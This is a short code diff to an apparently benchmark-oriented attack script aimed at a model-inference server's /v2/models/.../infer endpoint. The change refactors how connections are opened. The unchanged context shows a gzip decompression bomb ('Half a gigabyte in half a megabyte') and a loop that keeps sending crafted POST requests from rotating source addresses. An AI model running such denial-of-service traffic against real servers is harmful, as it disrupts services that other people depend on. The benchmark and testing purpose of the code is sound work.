@@ -7,7 +7,7 @@ import json
 import struct
 from dataclasses import replace
 
-from benchmarks.attacks.attacker import Aim, Http2, keep_trying, main, source
+from benchmarks.attacks.attacker import Aim, Http2, keep_trying, main, web
 
 ZEROS = gzip.compress(bytes(512 << 20), 9)
 """Half a gigabyte in half a megabyte."""
@@ -40,15 +40,13 @@ def run(aim: Aim) -> None:
                 ]
             }
         ).encode()
-        web = http.client.HTTPConnection(
-            aim.host, aim.http_port, 10, source_address=(source(count % 3), 0)
-        )
+        client = web(aim, count % 3)
         headers = {**dict(aim.headers), "Inference-Header-Content-Length": str(len(head))}
         body = head + struct.pack("<I", len(PICTURE)) + PICTURE
         with contextlib.suppress(http.client.HTTPException):
-            web.request("POST", f"/v2/models/{aim.model}/infer", body, headers)
-            web.getresponse().read()
-        web.close()
+            client.request("POST", f"/v2/models/{aim.model}/infer", body, headers)
+            client.getresponse().read()
+        client.close()
 
     keep_trying(aim, attack)
 
